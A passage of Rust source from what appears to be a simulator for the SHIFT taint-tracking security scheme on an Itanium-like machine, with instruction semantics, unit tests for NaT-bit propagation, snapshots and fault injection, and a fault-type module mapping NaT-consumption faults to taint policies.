                }
            }
            Op::Tset { dst } => {
                let v = self.cpu.gpr(dst);
                self.cpu.set_gpr(dst, RegVal { value: v.value, nat: true });
            }
            Op::Tclr { dst } => {
                let v = self.cpu.gpr(dst);
                self.cpu.set_gpr(dst, RegVal::of(v.value));
                if let Some(o) = self.obs_if::<HOT>() {
                    o.on_tclr(dst, insn.prov == Provenance::Relax);
                }
            }
            Op::Syscall { num } => {
                self.stats.syscalls += 1;
                self.retire_fast::<HOT>(ip, insn.prov, cycles);
                self.cpu.ip = next_ip;
                return match os.syscall(self, num) {
                    SysResult::Continue => StepOut::Recheck,
                    SysResult::Stop(exit) => StepOut::Exit(exit),
                };
            }
            Op::Nop => {}
            Op::Halt => {
                self.retire_fast::<HOT>(ip, insn.prov, cycles);
                return StepOut::Exit(Exit::Halted(self.cpu.gpr(shift_isa::Gpr::RET).value as i64));
            }
        }

        self.retire_fast::<HOT>(ip, insn.prov, cycles);
        self.cpu.ip = next_ip;
        StepOut::Continue
    }

    fn do_cmp(
        &mut self,
        rel: shift_isa::CmpRel,
        pt: shift_isa::Pr,
        pf: shift_isa::Pr,
        a: RegVal,
        b: RegVal,
        nat_aware: bool,
    ) {
        if (a.nat || b.nat) && !nat_aware {
            // Deferred-exception semantics: both targets cleared so that
            // mis-speculated code takes neither side (§2.2). This is what
            // breaks DIFT and forces SHIFT's relaxation (§3.1).
            self.cpu.set_pr(pt, false);
            self.cpu.set_pr(pf, false);
        } else {
            let r = rel.eval(a.value, b.value);
            self.cpu.set_pr(pt, r);
            self.cpu.set_pr(pf, !r);
        }
    }
}

fn alu(op: AluOp, a: u64, b: u64) -> u64 {
    match op {
        AluOp::Add => a.wrapping_add(b),
        AluOp::Sub => a.wrapping_sub(b),
        AluOp::And => a & b,
        AluOp::Or => a | b,
        AluOp::Xor => a ^ b,
        AluOp::Shl => a.wrapping_shl(b as u32),
        AluOp::Shr => a.wrapping_shr(b as u32),
        AluOp::Sar => (a as i64).wrapping_shr(b as u32) as u64,
        AluOp::Mul => a.wrapping_mul(b),
    }
}

fn extend(kind: ExtKind, size: MemSize, v: u64) -> u64 {
    let bits = size.bytes() * 8;
    if bits == 64 {
        return v;
    }
    let mask = (1u64 << bits) - 1;
    let v = v & mask;
    match kind {
        ExtKind::Zero => v,
        ExtKind::Sign => {
            let sign = 1u64 << (bits - 1);
            if v & sign != 0 {
                v | !mask
            } else {
                v
            }
        }
    }
}

fn set_unat_bit(unat: u64, addr: u64, nat: bool) -> u64 {
    let slot = Cpu::unat_slot(addr);
    if nat {
        unat | (1 << slot)
    } else {
        unat & !(1 << slot)
    }
}

fn mem_fault(e: MemError, ip: usize) -> Fault {
    match e {
        MemError::Unimplemented { addr } => Fault::Unimplemented { addr, ip },
        MemError::Unmapped { addr } => Fault::Unmapped { addr, ip },
        MemError::Unaligned { addr, size } => Fault::Unaligned { addr, size, ip },
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::layout;
    use shift_isa::{CmpRel, Gpr, Pr};

    fn run_code(code: Vec<Insn>) -> (Machine, Exit) {
        let image = Image::builder().code(code).map(layout::DATA_BASE, 0x1000).build();
        let mut m = Machine::new(&image);
        let exit = m.run(&mut NullOs, 100_000);
        (m, exit)
    }

    fn data_addr(off: u64) -> u64 {
        layout::DATA_BASE + off
    }

    #[test]
    fn halt_returns_r8() {
        let (_, exit) =
            run_code(vec![Insn::new(Op::MovI { dst: Gpr::R8, imm: 7 }), Insn::new(Op::Halt)]);
        assert_eq!(exit, Exit::Halted(7));
    }

    #[test]
    fn alu_nat_or_propagation() {
        // r1 = NaT (tset), r2 = 5, r3 = r1 + r2 → NaT; store r3 must fault.
        let (m, exit) = run_code(vec![
            Insn::new(Op::Tset { dst: Gpr::R1 }),
            Insn::new(Op::MovI { dst: Gpr::R2, imm: 5 }),
            Insn::new(Op::Alu { op: AluOp::Add, dst: Gpr::R3, src1: Gpr::R1, src2: Gpr::R2 }),
            Insn::new(Op::MovI { dst: Gpr::R4, imm: layout::DATA_BASE as i64 }),
            Insn::new(Op::St { size: MemSize::B8, src: Gpr::R3, addr: Gpr::R4 }),
            Insn::new(Op::Halt),
        ]);
        assert!(m.cpu.gpr(Gpr::R3).nat);
        assert_eq!(
            exit,
            Exit::Fault(Fault::NatConsumption { kind: NatFaultKind::StoreValue, ip: 4 })
        );
    }

    #[test]
    fn xor_self_clears_nat() {
        let (m, exit) = run_code(vec![
            Insn::new(Op::Tset { dst: Gpr::R1 }),
            Insn::new(Op::Alu { op: AluOp::Xor, dst: Gpr::R1, src1: Gpr::R1, src2: Gpr::R1 }),
            Insn::new(Op::Halt),
        ]);
        assert_eq!(exit, Exit::Halted(0));
        assert_eq!(m.cpu.gpr(Gpr::R1), RegVal::of(0));
    }

    #[test]
    fn spec_load_from_bad_address_defers() {
        // The paper's NaT-manufacturing trick: ld8.s from a faked invalid
        // address sets NaT instead of faulting (Figure 5 ①–②).
        let (m, exit) = run_code(vec![
            Insn::new(Op::MovI { dst: Gpr::R2, imm: 1 }), // address 1: unmapped
            Insn::new(Op::Ld {
                size: MemSize::B8,
                ext: ExtKind::Zero,
                dst: Gpr::R1,
                addr: Gpr::R2,
                spec: true,
            }),
            Insn::new(Op::Halt),
        ]);
        assert_eq!(exit, Exit::Halted(0));
        assert!(m.cpu.gpr(Gpr::R1).nat);
        assert_eq!(m.stats.deferred_loads, 1);
    }

    #[test]
    fn nonspec_load_from_bad_address_faults() {
        let (_, exit) = run_code(vec![
            Insn::new(Op::MovI { dst: Gpr::R2, imm: 1 }),
            Insn::new(Op::Ld {
                size: MemSize::B8,
                ext: ExtKind::Zero,
                dst: Gpr::R1,
                addr: Gpr::R2,
                spec: false,
            }),
            Insn::new(Op::Halt),
        ]);
        assert!(matches!(exit, Exit::Fault(Fault::Unaligned { .. } | Fault::Unmapped { .. })));
    }

    #[test]
    fn load_through_nat_address_faults_l1_style() {
        let (_, exit) = run_code(vec![
            Insn::new(Op::Tset { dst: Gpr::R2 }),
            Insn::new(Op::Ld {
                size: MemSize::B8,
                ext: ExtKind::Zero,
                dst: Gpr::R1,
                addr: Gpr::R2,
                spec: false,
            }),
            Insn::new(Op::Halt),
        ]);
        assert_eq!(
            exit,
            Exit::Fault(Fault::NatConsumption { kind: NatFaultKind::LoadAddress, ip: 1 })
        );
    }

    #[test]
    fn cmp_with_nat_clears_both_predicates() {
        let (m, exit) = run_code(vec![
            Insn::new(Op::Tset { dst: Gpr::R1 }),
            // Make both predicates true first so the clearing is observable.
            Insn::new(Op::CmpI {
                rel: CmpRel::Eq,
                pt: Pr::P1,
                pf: Pr::P2,
                src1: Gpr::R0,
                imm: 0,
                nat_aware: false,
            }),
            Insn::new(Op::CmpI {
                rel: CmpRel::Eq,
                pt: Pr::P1,
                pf: Pr::P2,
                src1: Gpr::R1,
                imm: 0,
                nat_aware: false,
            }),
            Insn::new(Op::Halt),
        ]);
        assert_eq!(exit, Exit::Halted(0));
        assert!(!m.cpu.pr(Pr::P1));
        assert!(!m.cpu.pr(Pr::P2));
    }

    #[test]
    fn nat_aware_cmp_proceeds() {
        let (m, _) = run_code(vec![
            Insn::new(Op::Tset { dst: Gpr::R1 }),
            // tset preserves the value (0 here), so r1 == 0 compares true.
            Insn::new(Op::CmpI {
                rel: CmpRel::Eq,
                pt: Pr::P1,
                pf: Pr::P2,
                src1: Gpr::R1,
                imm: 0,
                nat_aware: true,
            }),
            Insn::new(Op::Halt),
        ]);
        assert!(m.cpu.pr(Pr::P1));
        assert!(!m.cpu.pr(Pr::P2));
    }

    #[test]
    fn chk_s_branches_on_nat() {
        let (m, exit) = run_code(vec![
            Insn::new(Op::Tset { dst: Gpr::R1 }),
            Insn::new(Op::ChkS { src: Gpr::R1, target: 4 }),
            Insn::new(Op::MovI { dst: Gpr::R8, imm: 1 }), // skipped
            Insn::new(Op::Halt),
            Insn::new(Op::MovI { dst: Gpr::R8, imm: 99 }), // recovery
            Insn::new(Op::Halt),
        ]);
        assert_eq!(exit, Exit::Halted(99));
        assert_eq!(m.stats.chk_taken, 1);
    }

    #[test]
    fn chk_s_falls_through_when_clear() {
        let (m, exit) = run_code(vec![
            Insn::new(Op::MovI { dst: Gpr::R1, imm: 3 }),
            Insn::new(Op::ChkS { src: Gpr::R1, target: 4 }),
            Insn::new(Op::MovI { dst: Gpr::R8, imm: 1 }),
            Insn::new(Op::Halt),
            Insn::new(Op::Halt),
        ]);
        assert_eq!(exit, Exit::Halted(1));
        assert_eq!(m.stats.chk_taken, 0);
    }

    #[test]
    fn spill_fill_round_trips_nat() {
        let sp_slot = data_addr(0x100);
        let (m, exit) = run_code(vec![
            Insn::new(Op::MovI { dst: Gpr::R2, imm: sp_slot as i64 }),
            Insn::new(Op::Tset { dst: Gpr::R1 }),
            Insn::new(Op::AluI { op: AluOp::Add, dst: Gpr::R1, src1: Gpr::R1, imm: 42 }),
            Insn::new(Op::StSpill { src: Gpr::R1, addr: Gpr::R2 }),
            Insn::new(Op::LdFill { dst: Gpr::R3, addr: Gpr::R2 }),
            Insn::new(Op::Halt),
        ]);
        assert_eq!(exit, Exit::Halted(0));
        let r3 = m.cpu.gpr(Gpr::R3);
        assert!(r3.nat, "NaT must survive spill/fill");
        assert_eq!(r3.value, 42);
    }

    #[test]
    fn plain_load_clears_nat_even_after_spill() {
        // The paper's baseline "clear NaT" trick: spill then plain ld8 (not
        // fill) — value comes back, NaT does not (§4.1).
        let slot = data_addr(0x200);
        let (m, exit) = run_code(vec![
            Insn::new(Op::MovI { dst: Gpr::R2, imm: slot as i64 }),
            Insn::new(Op::Tset { dst: Gpr::R1 }),
            Insn::new(Op::AluI { op: AluOp::Add, dst: Gpr::R1, src1: Gpr::R1, imm: 9 }),
            Insn::new(Op::StSpill { src: Gpr::R1, addr: Gpr::R2 }),
            Insn::new(Op::Ld {
                size: MemSize::B8,
                ext: ExtKind::Zero,
                dst: Gpr::R1,
                addr: Gpr::R2,
                spec: false,
            }),
            Insn::new(Op::Halt),
        ]);
        assert_eq!(exit, Exit::Halted(0));
        assert_eq!(m.cpu.gpr(Gpr::R1), RegVal::of(9));
    }

    #[test]
    fn mov_to_br_with_nat_faults_l3_style() {
        let (_, exit) = run_code(vec![
            Insn::new(Op::Tset { dst: Gpr::R1 }),
            Insn::new(Op::MovToBr { br: shift_isa::Br::B1, src: Gpr::R1 }),
            Insn::new(Op::Halt),
        ]);
        assert_eq!(
            exit,
            Exit::Fault(Fault::NatConsumption { kind: NatFaultKind::BranchMove, ip: 1 })
        );
    }

    #[test]
    fn call_and_return() {
        let (_, exit) = run_code(vec![
            // main:
            Insn::new(Op::Call { link: shift_isa::Br::B0, target: 3 }),
            Insn::new(Op::MovI { dst: Gpr::R8, imm: 5 }),
            Insn::new(Op::Halt),
            // callee: return immediately
            Insn::new(Op::JmpBr { br: shift_isa::Br::B0 }),
        ]);
        assert_eq!(exit, Exit::Halted(5));
    }

    #[test]
    fn predicated_off_instruction_is_skipped_but_costs_a_slot() {
        let (m, exit) = run_code(vec![
            // p1 is false initially.
            Insn::new(Op::MovI { dst: Gpr::R8, imm: 1 }).under(Pr::P1),
            Insn::new(Op::Halt),
        ]);
        assert_eq!(exit, Exit::Halted(0), "predicated-off mov must not execute");
        assert_eq!(m.stats.instructions, 2);
    }

    #[test]
    fn tclr_keeps_value() {
        let (m, _) = run_code(vec![
            Insn::new(Op::MovI { dst: Gpr::R1, imm: 77 }),
            Insn::new(Op::Tset { dst: Gpr::R2 }),
            Insn::new(Op::AluI { op: AluOp::Add, dst: Gpr::R1, src1: Gpr::R1, imm: 0 }),
            Insn::new(Op::Alu { op: AluOp::Add, dst: Gpr::R1, src1: Gpr::R1, src2: Gpr::R2 }),
            Insn::new(Op::Tclr { dst: Gpr::R1 }),
            Insn::new(Op::Halt),
        ]);
        assert_eq!(m.cpu.gpr(Gpr::R1), RegVal::of(77));
    }

    #[test]
    fn sign_extension_on_loads() {
        let addr = data_addr(0x300);
        let image = Image::builder()
            .code(vec![
                Insn::new(Op::MovI { dst: Gpr::R2, imm: addr as i64 }),
                Insn::new(Op::Ld {
                    size: MemSize::B1,
                    ext: ExtKind::Sign,
                    dst: Gpr::R1,
                    addr: Gpr::R2,
                    spec: false,
                }),
                Insn::new(Op::Halt),
            ])
            .data(addr, vec![0xfe])
            .build();
        let mut m = Machine::new(&image);
        m.run(&mut NullOs, 100).is_clean();
        assert_eq!(m.cpu.gpr(Gpr::R1).value as i64, -2);
    }

    #[test]
    fn stats_attribute_instrumentation_cycles() {
        let (m, _) = run_code(vec![
            Insn::new(Op::MovI { dst: Gpr::R1, imm: 1 }),
            Insn::tagged(
                Op::AluI { op: AluOp::Shr, dst: Gpr::R30, src1: Gpr::R1, imm: 3 },
                Provenance::LdTagCompute,
            ),
            Insn::new(Op::Halt),
        ]);
        assert!(m.stats.cycles_for(Provenance::LdTagCompute) > 0);
        assert_eq!(m.stats.insns_for(Provenance::LdTagCompute), 1);
        assert!(m.stats.instrumentation_cycles() > 0);
    }

    #[test]
    fn tnat_tests_without_consuming() {
        let (m, exit) = run_code(vec![
            Insn::new(Op::Tset { dst: Gpr::R1 }),
            Insn::new(Op::Tnat { pt: Pr::P1, pf: Pr::P2, src: Gpr::R1 }),
            Insn::new(Op::Tnat { pt: Pr::P3, pf: Pr::P4, src: Gpr::R2 }),
            Insn::new(Op::Halt),
        ]);
        assert_eq!(exit, Exit::Halted(0), "tnat must not fault on NaT");
        assert!(m.cpu.pr(Pr::P1) && !m.cpu.pr(Pr::P2));
        assert!(!m.cpu.pr(Pr::P3) && m.cpu.pr(Pr::P4));
        assert!(m.cpu.gpr(Gpr::R1).nat, "tnat leaves the NaT bit in place");
    }

    #[test]
    fn tset_preserves_value() {
        let (m, _) = run_code(vec![
            Insn::new(Op::MovI { dst: Gpr::R1, imm: 123 }),
            Insn::new(Op::Tset { dst: Gpr::R1 }),
            Insn::new(Op::Halt),
        ]);
        assert_eq!(m.cpu.gpr(Gpr::R1), RegVal { value: 123, nat: true });
    }

    #[test]
    fn plain_store_invalidates_banked_spill_nat() {
        // Spill a NaT'd register, overwrite one byte of the slot with a
        // plain store, then fill: the NaT bit must be gone (the spilled
        // value no longer exists).
        let slot = data_addr(0x400);
        let (m, exit) = run_code(vec![
            Insn::new(Op::MovI { dst: Gpr::R2, imm: slot as i64 }),
            Insn::new(Op::Tset { dst: Gpr::R1 }),
            Insn::new(Op::StSpill { src: Gpr::R1, addr: Gpr::R2 }),
            Insn::new(Op::MovI { dst: Gpr::R3, imm: 0x55 }),
            Insn::new(Op::St { size: MemSize::B1, src: Gpr::R3, addr: Gpr::R2 }),
            Insn::new(Op::LdFill { dst: Gpr::R4, addr: Gpr::R2 }),
            Insn::new(Op::Halt),
        ]);
        assert_eq!(exit, Exit::Halted(0));
        assert!(!m.cpu.gpr(Gpr::R4).nat);
        assert_eq!(m.cpu.gpr(Gpr::R4).value & 0xff, 0x55);
    }

    #[test]
    fn trace_keeps_the_last_n_addresses() {
        let image = Image::builder()
            .code(vec![
                Insn::new(Op::MovI { dst: Gpr::R1, imm: 1 }),
                Insn::new(Op::MovI { dst: Gpr::R2, imm: 2 }),
                Insn::new(Op::MovI { dst: Gpr::R3, imm: 3 }),
                Insn::new(Op::Halt),
            ])
            .build();
        let mut m = Machine::new(&image);
        m.enable_trace(2);
        let _ = m.run(&mut NullOs, 100);
        assert_eq!(m.trace(), vec![2, 3], "ring buffer keeps the newest entries");
        let listing = m.trace_listing();
        assert!(listing.contains("movl r3"));
        assert!(listing.contains("halt"));
        assert!(!listing.contains("movl r1"), "old entries evicted");
    }

    #[test]
    fn trace_off_by_default() {
        let (m, _) = run_code(vec![Insn::new(Op::Halt)]);
        assert!(m.trace().is_empty());
        assert!(m.trace_listing().is_empty());
    }

    #[test]
    fn predicated_off_memory_op_cannot_fault() {
        // A predicated-off store through a NaT address must be squashed
        // before any NaT-consumption check — this is what makes SHIFT's
        // (p6)-guarded instrumentation sequences safe on clean data.
        let (_, exit) = run_code(vec![
            Insn::new(Op::Tset { dst: Gpr::R2 }),
            // p1 is false: the store is squashed.
            Insn::new(Op::St { size: MemSize::B8, src: Gpr::R1, addr: Gpr::R2 }).under(Pr::P1),
            Insn::new(Op::Ld {
                size: MemSize::B8,
                ext: ExtKind::Zero,
                dst: Gpr::R3,
                addr: Gpr::R2,
                spec: false,
            })
            .under(Pr::P1),
            Insn::new(Op::Halt),
        ]);
        assert_eq!(exit, Exit::Halted(0), "squashed ops must not fault: {exit:?}");
    }

    #[test]
    fn mov_from_br_is_always_clean() {
        let (m, _) = run_code(vec![
            Insn::new(Op::MovI { dst: Gpr::R1, imm: 9 }),
            Insn::new(Op::MovToBr { br: shift_isa::Br::B2, src: Gpr::R1 }),
            Insn::new(Op::MovFromBr { dst: Gpr::R2, br: shift_isa::Br::B2 }),
            Insn::new(Op::Halt),
        ]);
        assert_eq!(m.cpu.gpr(Gpr::R2), RegVal::of(9));
    }

    #[test]
    fn ext_propagates_nat() {
        let (m, _) = run_code(vec![
            Insn::new(Op::MovI { dst: Gpr::R1, imm: 0x1ff }),
            Insn::new(Op::Tset { dst: Gpr::R1 }),
            Insn::new(Op::Ext {
                kind: ExtKind::Zero,
                size: MemSize::B1,
                dst: Gpr::R2,
                src: Gpr::R1,
            }),
            Insn::new(Op::Halt),
        ]);
        let r2 = m.cpu.gpr(Gpr::R2);
        assert_eq!(r2.value, 0xff, "zero-extension truncates");
        assert!(r2.nat, "extension must carry the taint");
    }

    #[test]
    fn jmp_br_to_garbage_is_a_bad_ip() {
        let (_, exit) = run_code(vec![
            Insn::new(Op::MovI { dst: Gpr::R1, imm: 99_999 }),
            Insn::new(Op::MovToBr { br: shift_isa::Br::B3, src: Gpr::R1 }),
            Insn::new(Op::JmpBr { br: shift_isa::Br::B3 }),
        ]);
        assert_eq!(exit, Exit::Fault(Fault::BadIp { ip: 99_999 }));
    }

    #[test]
    fn sub_self_also_clears_nat() {
        let (m, exit) = run_code(vec![
            Insn::new(Op::Tset { dst: Gpr::R1 }),
            Insn::new(Op::Alu { op: AluOp::Sub, dst: Gpr::R1, src1: Gpr::R1, src2: Gpr::R1 }),
            Insn::new(Op::Mov { dst: Gpr::R8, src: Gpr::R1 }),
            Insn::new(Op::Halt),
        ]);
        assert_eq!(exit, Exit::Halted(0));
        assert!(!m.cpu.gpr(Gpr::R1).nat);
    }

    #[test]
    fn spec_load_from_valid_address_succeeds_without_nat() {
        let addr = data_addr(0x500);
        let image = Image::builder()
            .code(vec![
                Insn::new(Op::MovI { dst: Gpr::R2, imm: addr as i64 }),
                Insn::new(Op::Ld {
                    size: MemSize::B8,
                    ext: ExtKind::Zero,
                    dst: Gpr::R1,
                    addr: Gpr::R2,
                    spec: true,
                }),
                Insn::new(Op::Mov { dst: Gpr::R8, src: Gpr::R1 }),
                Insn::new(Op::Halt),
            ])
            .data(addr, 77i64.to_le_bytes().to_vec())
            .build();
        let mut m = Machine::new(&image);
        assert_eq!(m.run(&mut NullOs, 100), Exit::Halted(77));
        assert!(!m.cpu.gpr(Gpr::R1).nat);
        assert_eq!(m.stats.deferred_loads, 0);
    }

    #[test]
    fn deferred_spec_load_costs_a_memory_latency() {
        // §4.4's cost: the failed translation stalls before deferring.
        let (m, _) = run_code(vec![
            Insn::new(Op::MovI { dst: Gpr::R2, imm: 1 << 45 }), // unimplemented
            Insn::new(Op::Ld {
                size: MemSize::B8,
                ext: ExtKind::Zero,
                dst: Gpr::R1,
                addr: Gpr::R2,
                spec: true,
            }),
            Insn::new(Op::Halt),
        ]);
        assert!(m.cpu.gpr(Gpr::R1).nat);
        assert!(
            m.stats.cycles >= m.cache.mem_latency,
            "deferral must cost a translation walk: {} cycles",
            m.stats.cycles
        );
    }

    #[test]
    fn insn_limit_stops_infinite_loop() {
        let (_, exit) = run_code(vec![Insn::new(Op::Jmp { target: 0 })]);
        assert_eq!(exit, Exit::InsnLimit);
    }

    #[test]
    fn watchdog_trips_and_is_resumable() {
        let image = Image::builder().code(vec![Insn::new(Op::Jmp { target: 0 })]).build();
        let mut m = Machine::new(&image);
        m.arm_watchdog(50);
        assert_eq!(m.run(&mut NullOs, 1_000_000), Exit::FuelExhausted);
        assert!(m.stats.instructions <= 51, "watchdog must trip early");
        // The exit is not sticky: petting grants a fresh budget.
        m.pet_watchdog();
        assert_eq!(m.run(&mut NullOs, 1_000_000), Exit::FuelExhausted);
        m.disarm_watchdog();
        assert_eq!(m.run(&mut NullOs, 100), Exit::InsnLimit);
    }

    #[test]
    fn snapshot_restore_round_trips_cpu_memory_and_nat() {
        let slot = data_addr(0x600);
        let image = Image::builder()
            .code(vec![
                Insn::new(Op::MovI { dst: Gpr::R2, imm: slot as i64 }),
                Insn::new(Op::MovI { dst: Gpr::R1, imm: 7 }),
                Insn::new(Op::Halt),
                // After restore, execution resumes here (ip was at 3).
                Insn::new(Op::Tset { dst: Gpr::R3 }),
                Insn::new(Op::StSpill { src: Gpr::R3, addr: Gpr::R2 }),
                Insn::new(Op::MovI { dst: Gpr::R1, imm: 99 }),
                Insn::new(Op::Halt),
            ])
            .map(layout::DATA_BASE, 0x1000)
            .build();
        let mut m = Machine::new(&image);
        assert_eq!(m.run(&mut NullOs, 100), Exit::Halted(0));

        let snap = m.snapshot();
        let digest = m.state_digest();
        // Run the second fragment: dirties memory, a spill-NaT bit, and CPU.
        m.cpu.ip = 3;
        assert_eq!(m.run(&mut NullOs, 100), Exit::Halted(0));
        assert!(m.mem.spill_nat(slot));
        assert_ne!(m.state_digest(), digest, "the fragment must change state");

        m.restore(&snap);
        assert_eq!(m.state_digest(), digest, "restore must be byte-for-byte");
        assert!(!m.mem.spill_nat(slot), "banked spill NaT must roll back");
        assert_eq!(m.cpu.gpr(Gpr::R1).value, 7);
        assert!(!m.cpu.gpr(Gpr::R3).nat);

        // The same snapshot restores repeatedly.
        m.cpu.ip = 3;
        assert_eq!(m.run(&mut NullOs, 100), Exit::Halted(0));
        m.restore(&snap);
        assert_eq!(m.state_digest(), digest);
    }

    #[test]
    #[should_panic(expected = "superseded")]
    fn superseded_snapshot_is_rejected() {
        let image = Image::builder().code(vec![Insn::new(Op::Halt)]).build();
        let mut m = Machine::new(&image);
        let old = m.snapshot();
        let _new = m.snapshot();
        m.restore(&old);
    }

    #[test]
    fn injected_nat_flip_is_detected_at_the_sink() {
        // r1 holds a clean pointer-ish value; the injected NaT flip turns a
        // later store through it into an L2-style NaT-consumption fault.
        let slot = data_addr(0x700);
        let image = Image::builder()
            .code(vec![
                Insn::new(Op::MovI { dst: Gpr::R1, imm: slot as i64 }),
                Insn::new(Op::Nop),
                Insn::new(Op::Nop),
                Insn::new(Op::St { size: MemSize::B8, src: Gpr::R2, addr: Gpr::R1 }),
                Insn::new(Op::Halt),
            ])
            .map(layout::DATA_BASE, 0x1000)
            .build();
        let mut m = Machine::new(&image);
        m.inject_after(2, crate::snapshot::Injection::FlipNat { reg: Gpr::R1 });
        let exit = m.run(&mut NullOs, 100);
        assert_eq!(
            exit,
            Exit::Fault(Fault::NatConsumption { kind: NatFaultKind::StoreAddress, ip: 3 })
        );
        assert_eq!(m.stats.injected_events, 1);
        assert_eq!(m.pending_injections(), 0);
    }

    #[test]
    fn injected_byte_corruption_is_journaled() {
        let slot = data_addr(0x800);
        let image = Image::builder()
            .code(vec![Insn::new(Op::Jmp { target: 0 })])
            .map(layout::DATA_BASE, 0x1000)
            .build();
        let mut m = Machine::new(&image);
        m.mem.write_int(slot, 1, 0x0f).unwrap();
        let snap = m.snapshot();
        let digest = m.state_digest();
        m.inject_after(3, crate::snapshot::Injection::CorruptByte { addr: slot, xor: 0xf0 });
        assert_eq!(m.run(&mut NullOs, 10), Exit::InsnLimit);
        assert_eq!(m.mem.read_int(slot, 1).unwrap(), 0xff, "corruption landed");
        m.restore(&snap);
        assert_eq!(m.state_digest(), digest, "corruption rolls back with the checkpoint");
        assert_eq!(m.mem.read_int(slot, 1).unwrap(), 0x0f);
    }

    #[test]
    fn injected_transient_fault_stops_without_corrupting_state() {
        let image = Image::builder()
            .code(vec![Insn::new(Op::Jmp { target: 0 })])
            .map(layout::DATA_BASE, 0x1000)
            .build();
        let mut m = Machine::new(&image);
        m.inject_after(
            5,
            crate::snapshot::Injection::Fault(Fault::Unmapped { addr: 0x666, ip: 0 }),
        );
        assert_eq!(m.run(&mut NullOs, 100), Exit::Fault(Fault::Unmapped { addr: 0x666, ip: 0 }));
        // The run is resumable right away — the fault was transient.
        assert_eq!(m.run(&mut NullOs, 10), Exit::InsnLimit);
    }
}
