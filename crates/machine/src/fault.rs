//! Architectural faults.

use core::fmt;

/// What kind of NaT-consumption fault occurred.
///
/// Deferred exceptions may only flow through computation; when a NaT'd
/// register reaches a side-effecting use the processor must fault (§2.2:
/// "Registers with exception tokens cannot be used by non-speculative
/// operations which may cause possible side effects").
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum NatFaultKind {
    /// A NaT'd register was stored with a plain `st` (only `st8.spill` may
    /// store NaT'd data). Under SHIFT this doubles as a low-level policy
    /// backstop: tainted data cannot silently escape to memory untracked.
    StoreValue,
    /// A NaT'd register was used as the address of a non-speculative load —
    /// the hardware half of policy **L1** (tainted data cannot be used as a
    /// load address).
    LoadAddress,
    /// A NaT'd register was used as the address of a store — the hardware
    /// half of policy **L2** (tainted data cannot be used as a store
    /// address; format-string overwrites).
    StoreAddress,
    /// A NaT'd register was moved into a branch register — the hardware half
    /// of policy **L3** (tainted data cannot reach CPU control state).
    BranchMove,
}

impl NatFaultKind {
    /// Stable short name for reports.
    pub const fn name(self) -> &'static str {
        match self {
            NatFaultKind::StoreValue => "store-value",
            NatFaultKind::LoadAddress => "load-address",
            NatFaultKind::StoreAddress => "store-address",
            NatFaultKind::BranchMove => "branch-move",
        }
    }
}

/// An architectural fault that terminates execution.
///
/// The simulator has no guest-visible trap handlers: any fault stops the run
/// and is reported in the [`crate::Exit`]. The SHIFT runtime interprets
/// NaT-consumption faults as detected low-level attacks.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Fault {
    /// NaT bit consumed by a non-deferrable use.
    NatConsumption {
        /// Which use consumed it.
        kind: NatFaultKind,
        /// Instruction index that faulted.
        ip: usize,
    },
    /// Access to an unmapped page.
    Unmapped {
        /// Faulting data address.
        addr: u64,
        /// Instruction index that faulted.
        ip: usize,
    },
    /// Access through an address with unimplemented bits set.
    Unimplemented {
        /// Faulting data address.
        addr: u64,
        /// Instruction index that faulted.
        ip: usize,
    },
    /// Naturally-unaligned access (the machine requires natural alignment,
    /// like Itanium without `ua` prefixes).
    Unaligned {
        /// Faulting data address.
        addr: u64,
        /// Access size in bytes.
        size: u64,
        /// Instruction index that faulted.
        ip: usize,
    },
    /// Instruction fetch outside the code image.
    BadIp {
        /// The out-of-range instruction index.
        ip: usize,
    },
    /// The [`crate::Os`] did not recognize a syscall number.
    BadSyscall {
        /// The unknown call number.
        num: u32,
        /// Instruction index of the `syscall`.
        ip: usize,
    },
}

impl Fault {
    /// Instruction index at which the fault fired.
    pub fn ip(&self) -> usize {
        match *self {
            Fault::NatConsumption { ip, .. }
            | Fault::Unmapped { ip, .. }
            | Fault::Unimplemented { ip, .. }
            | Fault::Unaligned { ip, .. }
            | Fault::BadIp { ip }
            | Fault::BadSyscall { ip, .. } => ip,
        }
    }

    /// Returns `true` if this is a NaT-consumption fault (SHIFT's low-level
    /// detection events).
    pub fn is_nat_consumption(&self) -> bool {
        matches!(self, Fault::NatConsumption { .. })
    }
}

impl fmt::Display for Fault {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match *self {
            Fault::NatConsumption { kind, ip } => {
                write!(f, "NaT consumption ({}) at ip {ip}", kind.name())
            }
            Fault::Unmapped { addr, ip } => write!(f, "unmapped address {addr:#x} at ip {ip}"),
            Fault::Unimplemented { addr, ip } => {
                write!(f, "unimplemented address bits in {addr:#x} at ip {ip}")
            }
            Fault::Unaligned { addr, size, ip } => {
                write!(f, "unaligned {size}-byte access to {addr:#x} at ip {ip}")
            }
            Fault::BadIp { ip } => write!(f, "instruction fetch outside image at ip {ip}"),
            Fault::BadSyscall { num, ip } => write!(f, "unknown syscall {num} at ip {ip}"),
        }
    }
}

impl std::error::Error for Fault {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_is_informative() {
        let f = Fault::NatConsumption { kind: NatFaultKind::BranchMove, ip: 7 };
        assert!(f.to_string().contains("branch-move"));
        assert!(f.is_nat_consumption());
        assert_eq!(f.ip(), 7);

        let u = Fault::Unaligned { addr: 0x1001, size: 8, ip: 3 };
        assert!(u.to_string().contains("0x1001"));
        assert!(!u.is_nat_consumption());
    }
}
