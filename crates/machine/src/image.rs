//! Loadable program images.

use std::collections::BTreeMap;

use shift_isa::Insn;

use crate::layout;

/// A fully linked guest program: code, initialized data, mappings, and
/// symbol information for diagnostics.
#[derive(Clone, Debug)]
pub struct Image {
    /// The code, indexed by instruction address.
    pub code: Vec<Insn>,
    /// Entry point (instruction index).
    pub entry: usize,
    /// Initialized data segments `(vaddr, bytes)`; their pages are mapped at
    /// load time.
    pub data: Vec<(u64, Vec<u8>)>,
    /// Additional zero-initialized mappings `(vaddr, len)`.
    pub maps: Vec<(u64, u64)>,
    /// Function symbols: entry instruction index → name.
    pub symbols: BTreeMap<usize, String>,
    /// Initial stack pointer.
    pub stack_top: u64,
    /// Stack bytes mapped below `stack_top`.
    pub stack_size: u64,
}

impl Image {
    /// Starts building an image.
    pub fn builder() -> ImageBuilder {
        ImageBuilder::default()
    }

    /// Static code size in instructions.
    pub fn insn_count(&self) -> usize {
        self.code.len()
    }

    /// Modelled code size in bytes: IA-64 packs 3 instructions per 16-byte
